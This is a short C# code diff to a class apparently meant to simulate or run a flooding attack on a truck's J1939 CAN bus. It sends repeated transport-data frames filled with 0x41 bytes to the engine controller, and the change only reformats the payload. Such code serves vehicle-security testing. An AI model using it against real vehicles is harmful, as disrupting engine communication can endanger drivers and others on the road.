@@ -30,6 +30,7 @@ internal sealed class TransportDataFlood : VehicleAttack
             [16, 0xFF, 0x00, 0x25, 0xFF, .. J1939Id.Number(J1939Id.SoftwareIdentification)]));
         network.Later(Milliseconds(5), () => network.Repeat(
             Milliseconds(2), Milliseconds(2 * Of(Packets, intensity)), i => network.Main.Send(J1939Id.Frame(
-                7, J1939Id.TransportData, TruckMessages.Tool, TruckMessages.Engine, (byte)(i + 1), 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41))));
+                7, J1939Id.TransportData, TruckMessages.Tool, TruckMessages.Engine,
+                [(byte)(i + 1), 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41]))));
     }
 }
